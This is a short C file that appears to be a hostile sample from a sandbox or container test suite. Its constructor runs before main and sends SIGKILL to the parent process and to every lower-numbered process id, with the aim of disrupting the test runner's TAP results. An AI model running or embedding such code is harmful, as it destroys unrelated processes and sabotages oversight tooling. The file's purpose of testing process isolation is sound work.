/* kills-parents - kills whoever started it, before main is reached
 *
 * Tries: from a constructor, to kill its parent and the processes above that, then ends with 0
 * Holds: its ancestors are in the container; the test runner is in another pid namespace
 * Mark: 0
 * Goal: ! grep -q '^ok 5 ' tap */
#include <signal.h>
#include <stdlib.h>
#include <sys/prctl.h>
#include <unistd.h>

static void __attribute__((constructor)) attack(void)
{
	prctl(PR_SET_NAME, "lab-attack");
	for (pid_t pid = getppid(); pid > 0; pid--)
		if (pid != getpid())
			kill(pid, SIGKILL);
	_exit(0);
}

int main(void)
{
	return 1;
}
